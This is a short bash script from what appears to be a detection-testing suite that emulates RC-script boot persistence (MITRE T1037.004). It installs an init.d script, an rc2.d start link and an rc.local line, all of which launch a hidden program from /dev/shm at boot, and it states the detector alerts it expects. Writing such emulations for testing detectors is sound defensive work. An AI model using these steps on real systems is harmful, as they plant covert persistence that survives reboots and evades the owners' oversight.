#!/bin/bash
# vigil-emulation: attack
# technique: T1037.004 Boot or Logon Initialization Scripts: RC Scripts
# tactic: persistence, privilege-escalation
# what: installs a SysV init script /etc/init.d/vigil-emul-netd with its rc2.d start
#   link, and appends a line to /etc/rc.local, both starting a program from /dev/shm at
#   boot; everything is restored exactly at the end.
# report: a new init script and rc.local modified by a shell, starting a program from a
#   world-writable directory at boot.
# expect: init script|rc script|rc.local|init.d|boot script
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"

emul_backup /etc/init.d/vigil-emul-netd
emul_backup /etc/rc2.d/S01vigil-emul-netd
emul_backup /etc/rc.local
printf '#!/bin/sh\n### BEGIN INIT INFO\n# Provides: netd\n# Default-Start: 2 3 4 5\n### END INIT INFO\n/dev/shm/.vigil-emul-netd &\n' >/etc/init.d/vigil-emul-netd
chmod 755 /etc/init.d/vigil-emul-netd
mkdir -p /etc/rc2.d
ln -sf ../init.d/vigil-emul-netd /etc/rc2.d/S01vigil-emul-netd
[ -e /etc/rc.local ] || printf '#!/bin/sh -e\n' >/etc/rc.local
echo '/dev/shm/.vigil-emul-netd &' >>/etc/rc.local
chmod 755 /etc/rc.local
tail -1 /etc/rc.local
